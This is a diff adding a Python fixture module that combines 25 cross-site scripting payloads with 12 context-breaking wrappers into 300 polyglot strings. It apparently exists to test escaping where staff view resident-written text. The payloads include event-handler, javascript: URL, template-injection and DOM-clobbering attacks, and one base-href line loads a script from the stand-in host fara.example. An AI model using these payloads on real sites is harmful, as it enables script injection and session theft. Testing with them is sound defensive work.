@@ -1,0 +1,45 @@
+"""Texts that would run in a page which shows them raw: 300 ways, for every place where staff read what residents write."""
+
+_CALLS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<input autofocus onfocus=alert(1)>",
+    "<a href=javascript:alert(1)>läs mer</a>",
+    "<form action=javascript:alert(1)><button>tryck</button></form>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<template><script>alert(1)</script></template><img src onerror=alert(1)>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{% raw %}{{ config }}{% endraw %}<b onmouseover=alert(1)>x</b>",
+    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)\N{FULLWIDTH LESS-THAN SIGN}/script>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(2)</script>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<video><source onerror=alert(1)></video>",
+    "<object data=javascript:alert(1)></object>",
+    "<base href=//fara.example/><script src=x.js></script>",
+    "<p id=main name=getElementById>ersätter sidans delar</p><img name=cookie src=x onerror=alert(1)>",
+)
+_AROUND = (
+    "{}",
+    '"{}',
+    "'>{}",
+    '"></textarea>{}',
+    "</title>{}",
+    "</option></select>{}",
+    "--><!--{}",
+    "]]>{}",
+    "*/{}/*",
+    "\N{RIGHT-TO-LEFT OVERRIDE}{}",
+    "Det är mörkt.\n\n{}\n\nTack",
+    "</p></div></article></main>{}",
+)
+
+POLYGLOTS: tuple[str, ...] = tuple(around.replace("{}", call) for call in _CALLS for around in _AROUND)
